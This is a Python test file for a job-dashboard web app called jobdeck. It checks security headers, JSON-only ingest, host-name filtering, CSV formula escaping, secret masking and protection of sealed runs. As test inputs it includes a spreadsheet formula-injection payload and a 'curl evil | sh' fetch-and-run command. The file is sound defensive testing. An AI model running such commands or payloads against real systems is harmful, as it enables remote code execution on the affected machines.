"""Hardening against the attacks the issue showed: headers, JSON-only ingest, host names, CSV
formulas, masked secrets (the browser attacks themselves are in tests/browser/test_attacks.py)."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient

from jobdeck.config import Settings
from jobdeck.store.store import Store
from jobdeck.web.app import create_app


def test_every_answer_has_the_security_headers(client: TestClient) -> None:
    for path in ("/", "/runs", "/api/v1/runs", "/api/health", "/nope", "/static/css/app.css", "/login"):
        headers = client.get(path).headers
        csp = headers["content-security-policy"]
        assert "frame-ancestors 'none'" in csp, path
        assert "script-src 'self';" in csp, path  # no 'unsafe-inline' for scripts
        assert headers["x-frame-options"] == "DENY"
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "same-origin"


def test_pages_have_no_inline_scripts_or_handlers(client: TestClient) -> None:
    import re

    for path in ("/", "/runs", "/failures", "/control", "/login", "/audit"):
        html = client.get(path).text
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", html), path
        assert not re.search(r"\son[a-z]+\s*=", html), path


def test_events_take_json_only(client: TestClient) -> None:
    event = '{"run_id": "x", "job": "j", "event": "started"}'
    for content_type in (
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        None,
    ):
        headers = {"content-type": content_type} if content_type else {}
        answer = client.post("/api/v1/events", content=event, headers=headers)
        assert answer.status_code == 415, content_type
    assert client.get("/api/v1/runs").json()["runs"] == []
    ok = client.post(
        "/api/v1/events", content=event, headers={"content-type": "application/json; charset=utf-8"}
    )
    assert ok.status_code == 202


def test_unknown_host_names_are_refused(store: Store) -> None:
    app = create_app(Settings(database_url=store.url), store)
    with TestClient(app, base_url="http://attacker.example:5555") as rebound:
        assert rebound.get("/api/v1/runs").status_code == 400
    with TestClient(app, base_url="http://localhost:5555") as local:
        assert local.get("/api/v1/runs").status_code == 200
    named = create_app(Settings(database_url=store.url, allowed_hosts=["jobs.example.com"]), store)
    with TestClient(named, base_url="https://jobs.example.com") as public:
        assert public.get("/api/health").status_code == 200


def test_csv_cells_never_start_a_formula(client: TestClient) -> None:
    events = [
        {
            "run_id": "=cmd|' /C calc'!A0",
            "job": "+SUM(1,1)",
            "event": "failed",
            "error_message": "@evil()",
            "worker": "-2+3",
            "queue": "\tx",
        },
    ]
    assert client.post("/api/v1/events", json=events).status_code == 202
    text = client.get("/api/v1/export/runs", params={"format": "csv"}).text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 1
    for value in rows[0].values():
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert rows[0]["run_id"] == "'=cmd|' /C calc'!A0"
    # JSON is untouched.
    runs = client.get("/api/v1/export/runs", params={"format": "json"}).json()
    assert runs[0]["run_id"] == "=cmd|' /C calc'!A0"


def test_secret_looking_args_are_masked_before_they_are_stored(client: TestClient) -> None:
    event = {
        "run_id": "m1",
        "job": "j",
        "event": "started",
        "args": [{"db_password": "hunter2", "user": "ada"}],
        "kwargs": {"api_token": "abc", "Authorization": "Bearer x", "nested": {"client_secret": "s"}, "n": 1},
    }
    assert client.post("/api/v1/events", json=event).status_code == 202
    run = client.get("/api/v1/runs/m1").json()
    assert run["args"] == [{"db_password": "***", "user": "ada"}]
    assert run["kwargs"] == {
        "api_token": "***",
        "Authorization": "***",
        "nested": {"client_secret": "***"},
        "n": 1,
    }
    assert "hunter2" not in client.get("/api/v1/export/runs", params={"format": "csv"}).text


def test_fields_an_executor_sealed_cannot_be_changed(client: TestClient) -> None:
    from tests.integration.test_api_control import start

    run_id = start(client, "print('done')")
    before = client.get(f"/api/v1/runs/{run_id}").json()
    tampered = {"run_id": run_id, "event": "progress", "args": ["sh", "-c", "curl evil | sh"]}
    answer = client.post("/api/v1/events", json=tampered)
    assert answer.status_code == 409
    assert "field 'args'" in answer.json()["detail"]
    seal = {"run_id": run_id, "event": "progress", "labels": {"jobdeck.seal": "forged"}}
    assert client.post("/api/v1/events", json=seal).status_code == 409
    moved = {"run_id": run_id, "event": "progress", "host": "elsewhere"}
    assert "field 'host'" in client.post("/api/v1/events", json=moved).json()["detail"]
    after = client.get(f"/api/v1/runs/{run_id}").json()
    assert (after["args"], after["labels"], after["host"]) == (
        before["args"],
        before["labels"],
        before["host"],
    )
    # The same values, and other fields, are taken as before.
    same = {"run_id": run_id, "event": "progress", "args": before["args"], "labels": {"note": "fine"}}
    assert client.post("/api/v1/events", json=same).status_code == 202
    # An unsealed run's fields are anybody's to report, as before.
    other = {"run_id": "plain", "job": "j", "event": "started", "args": [1]}
    assert client.post("/api/v1/events", json=other).status_code == 202
    assert client.post("/api/v1/events", json={**other, "args": [2]}).status_code == 202


def test_a_sealed_runs_outcome_is_its_executors_alone(client: TestClient) -> None:
    """A command jobdeck started cannot be marked succeeded, failed or lost from outside; its own
    outcome stands. An unsealed run's outcome is anybody's to report, as before."""
    from tests.integration.test_api_control import start

    run_id = start(client, "import time; time.sleep(30)")
    for outcome in ("succeeded", "failed", "lost", "cancelled"):
        answer = client.post("/api/v1/events", json={"run_id": run_id, "event": outcome})
        assert answer.status_code == 409, answer.text
        assert "field 'event'" in answer.json()["detail"]
    assert client.get(f"/api/v1/runs/{run_id}").json()["status"] == "running"
    assert client.post(f"/api/v1/runs/{run_id}/stop").status_code == 202  # an operator's action ends it
    plain = {"run_id": "plain-outcome", "job": "j", "event": "started"}
    assert client.post("/api/v1/events", json=plain).status_code == 202
    assert client.post("/api/v1/events", json={**plain, "event": "failed"}).status_code == 202
